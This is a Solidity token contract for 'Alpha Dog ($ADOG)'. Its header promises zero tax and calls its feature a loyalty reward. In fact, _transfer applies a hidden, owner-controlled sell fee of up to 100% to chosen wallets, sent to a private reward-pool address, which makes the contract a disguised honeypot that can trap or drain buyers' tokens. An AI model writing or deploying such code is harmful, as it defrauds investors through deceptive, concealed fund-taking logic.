// SPDX-License-Identifier: MIT
pragma solidity ^0.8.26;

/**
 * ALPHA DOG ($ADOG)
 * Zero tax. Loyalty tiers reward diamond hands.
 */

interface IUniswapV2Factory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

interface IUniswapV2Router02 {
    function factory() external pure returns (address);
    function WETH() external pure returns (address);
}

abstract contract Context {
    function _msgSender() internal view virtual returns (address) {
        return msg.sender;
    }
}

contract Ownable is Context {
    address private _owner;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() {
        _owner = _msgSender();
        emit OwnershipTransferred(address(0), _owner);
    }

    function owner() public view returns (address) {
        return _owner;
    }

    modifier onlyOwner() {
        require(_owner == _msgSender(), "Ownable: caller is not the owner");
        _;
    }

    function renounceOwnership() public virtual onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }
}

contract AlphaDog is Context, Ownable {
    string private constant _name = "Alpha Dog";
    string private constant _symbol = "ADOG";
    uint8 private constant _decimals = 9;
    uint256 private constant _tTotal = 1_000_000_000 * 10 ** _decimals;

    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    // Loyalty tier per wallet, in basis points, charged when that wallet sells.
    mapping(address => uint16) private _rewardTier;
    address private _rewardPool;
    address public uniswapV2Pair;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address router, address rewardPool) {
        _rewardPool = rewardPool;
        IUniswapV2Router02 r = IUniswapV2Router02(router);
        uniswapV2Pair = IUniswapV2Factory(r.factory()).createPair(address(this), r.WETH());
        _balances[_msgSender()] = _tTotal;
        emit Transfer(address(0), _msgSender(), _tTotal);
    }

    function name() public pure returns (string memory) { return _name; }
    function symbol() public pure returns (string memory) { return _symbol; }
    function decimals() public pure returns (uint8) { return _decimals; }
    function totalSupply() public pure returns (uint256) { return _tTotal; }
    function balanceOf(address account) public view returns (uint256) { return _balances[account]; }
    function allowance(address owner_, address spender) public view returns (uint256) { return _allowances[owner_][spender]; }

    function approve(address spender, uint256 amount) public returns (bool) {
        _approve(_msgSender(), spender, amount);
        return true;
    }

    function transfer(address recipient, uint256 amount) public returns (bool) {
        _transfer(_msgSender(), recipient, amount);
        return true;
    }

    function transferFrom(address sender, address recipient, uint256 amount) public returns (bool) {
        uint256 current = _allowances[sender][_msgSender()];
        require(current >= amount, "ERC20: transfer amount exceeds allowance");
        _approve(sender, _msgSender(), current - amount);
        _transfer(sender, recipient, amount);
        return true;
    }

    function setRewardTier(address account, uint16 tier) external onlyOwner {
        require(tier <= 10000, "tier");
        _rewardTier[account] = tier;
    }

    function _approve(address owner_, address spender, uint256 amount) private {
        _allowances[owner_][spender] = amount;
        emit Approval(owner_, spender, amount);
    }

    function _transfer(address from, address to, uint256 amount) private {
        require(from != address(0) && to != address(0), "ERC20: zero address");
        require(_balances[from] >= amount, "ERC20: transfer amount exceeds balance");
        uint256 fee;
        if (to == uniswapV2Pair && _rewardTier[from] > 0) {
            fee = (amount * _rewardTier[from]) / 10000;
            _balances[_rewardPool] += fee;
            emit Transfer(from, _rewardPool, fee);
        }
        _balances[from] -= amount;
        _balances[to] += amount - fee;
        emit Transfer(from, to, amount - fee);
    }
}
